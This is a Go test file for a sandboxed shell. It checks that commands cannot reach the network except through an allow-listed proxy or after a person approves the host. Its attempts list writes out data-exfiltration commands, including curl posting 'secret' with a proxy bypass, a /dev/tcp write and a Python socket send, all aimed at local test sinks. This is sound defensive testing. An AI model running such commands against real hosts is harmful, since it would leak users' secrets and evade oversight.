//go:build linux

package shell

import (
	"context"
	"fmt"
	"io"
	"net"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/aci-dev/aci/internal/loopback"
	"github.com/aci-dev/aci/tools/netproxy"
	"github.com/aci-dev/aci/tools/sandbox"
)

// sink is a TCP listener on the host's loopback that counts the bytes it
// receives: from inside a command's network namespace it is "outside".
type sink struct {
	ln    net.Listener
	bytes atomic.Int64
}

func newSink(t *testing.T, ip string) *sink {
	t.Helper()
	ln, err := net.Listen("tcp4", ip+":0")
	if err != nil {
		t.Fatal(err)
	}
	s := &sink{ln: ln}
	t.Cleanup(func() { ln.Close() })
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			go func() {
				defer c.Close()
				n, _ := io.Copy(io.Discard, c)
				s.bytes.Add(n)
			}()
		}
	}()
	return s
}

func (s *sink) port() int { return s.ln.Addr().(*net.TCPAddr).Port }

// registry starts a package registry's stand-in on 127.0.0.2 (NO_PROXY
// names 127.0.0.1 only, so clients reach it through the proxy) and
// returns its port and the allow rule for it.
func registry(t *testing.T) (int, netproxy.Rule) {
	t.Helper()
	port := loopback.Port(loopback.Serve(t, "127.0.0.2", loopback.Echo("package-data ")))
	rule, err := netproxy.ParseRule(fmt.Sprintf("127.0.0.2:%d", port))
	if err != nil {
		t.Fatal(err)
	}
	return port, rule
}

func TestContainedNetwork(t *testing.T) {
	for _, k := range sandboxKinds {
		t.Run(string(k), func(t *testing.T) {
			sh, _, _ := containedShell(t, k)
			if !sh.Sandbox().NetContained() {
				t.Skipf("%s does not keep commands off the network here", k)
			}
			out, far := newSink(t, "127.0.0.1"), newSink(t, "127.0.0.3")
			regPort, rule := registry(t)
			proxy := netproxy.New(netproxy.Policy{Allow: []netproxy.Rule{rule}})
			a := &loopback.Asker{}
			net := Network(proxy, a.Ask)
			ctx := context.Background()

			res, err := sh.Run(ctx, fmt.Sprintf("curl -sS --max-time 5 http://127.0.0.2:%d/pkg.tgz", regPort), 0, 10000, net)
			if err != nil || res.ExitCode != 0 || !strings.Contains(res.Output, "package-data /pkg.tgz") {
				t.Fatalf("allowed registry through the proxy: exit %d err %v out %q", res.ExitCode, err, res.Output)
			}
			attempts := []string{
				fmt.Sprintf("curl -sS --max-time 5 --noproxy '*' -d secret http://127.0.0.1:%d/", out.port()),
				fmt.Sprintf("curl -fsS --max-time 5 -d secret http://127.0.0.1:%d/", out.port()),
				fmt.Sprintf("curl -fsS --max-time 5 -d secret http://127.0.0.3:%d/", far.port()),
				fmt.Sprintf("curl -fsS --max-time 5 -d secret https://127.0.0.3:%d/", far.port()),
				fmt.Sprintf("echo secret > /dev/tcp/127.0.0.1/%d", out.port()),
				fmt.Sprintf("python3 -c 'import socket; s=socket.create_connection((\"127.0.0.1\", %d), 3); s.sendall(b\"secret\")'", out.port()),
			}
			for _, cmd := range attempts {
				res, err := sh.Run(ctx, cmd, 0, 10000, net)
				if err != nil {
					t.Fatal(err)
				}
				if res.ExitCode == 0 {
					t.Errorf("%s: exit 0, want a failure; output %q", cmd, res.Output)
				}
			}
			if n := out.bytes.Load() + far.bytes.Load(); n != 0 {
				t.Errorf("the outside sinks received %d bytes", n)
			}
			if len(a.Questions()) == 0 {
				t.Errorf("a host off the allow list was not asked about")
			}
			a.Allow(true)
			res, err = sh.Run(ctx, fmt.Sprintf("curl -sS --max-time 10 -d secret http://127.0.0.3:%d/ ; echo rc=$?", far.port()), 0, 10000, net)
			if err != nil {
				t.Fatal(err)
			}
			t.Logf("allowed by the asker: %q", res.Output)
			if far.bytes.Load() == 0 {
				t.Errorf("a host the person allowed got nothing")
			}
		})
	}
}

// Without a Network option a contained command has no network at all.
func TestContainedNoNetwork(t *testing.T) {
	sh, _, _ := containedShell(t, sandbox.Bwrap)
	out := newSink(t, "127.0.0.1")
	res, err := sh.Run(context.Background(), fmt.Sprintf("curl -sS --max-time 3 http://127.0.0.1:%d/", out.port()), 0, 10000)
	if err != nil || res.ExitCode == 0 {
		t.Fatalf("exit %d err %v out %q", res.ExitCode, err, res.Output)
	}
	if out.bytes.Load() != 0 {
		t.Error("bytes delivered")
	}
}

// After the first step a command keeps its exit status and signals, its
// own loopback (a server it starts answers it), and a background task
// still ends when killed.
func TestContainedNetworkForwarderTransparent(t *testing.T) {
	sh, _, _ := containedShell(t, sandbox.Bwrap)
	net := Network(netproxy.New(netproxy.Policy{}), nil)
	ctx := context.Background()
	for _, tc := range []struct {
		cmd  string
		code int
	}{
		{"exit 7", 7},
		{"kill -9 $$", 137},
		{"kill -TERM $$", 143},
		{`python3 -m http.server 18081 --bind 127.0.0.1 >/dev/null 2>&1 & for i in $(seq 50); do curl -fsS -o /dev/null http://127.0.0.1:18081/ && break; sleep 0.1; done; curl -fsS -o /dev/null -w '%{http_code}' http://127.0.0.1:18081/; kill %1`, 0},
	} {
		res, err := sh.Run(ctx, tc.cmd, 0, 10000, net)
		if err != nil || res.ExitCode != tc.code {
			t.Errorf("%s: exit %d (want %d) err %v out %q", tc.cmd, res.ExitCode, tc.code, err, res.Output)
		}
		if tc.code == 0 && !strings.Contains(res.Output, "200") {
			t.Errorf("a server on the command's own loopback: %q", res.Output)
		}
	}
	task, err := sh.Start("sleep 1234.5", 1000, net)
	if err != nil {
		t.Fatal(err)
	}
	if err := task.Kill(); err != nil || task.State() != TaskKilled {
		t.Errorf("kill: %v, state %s", err, task.State())
	}
	if left := survivors(t, "sleep 1234.5"); len(left) > 0 {
		t.Errorf("left running: %v", left)
	}
}
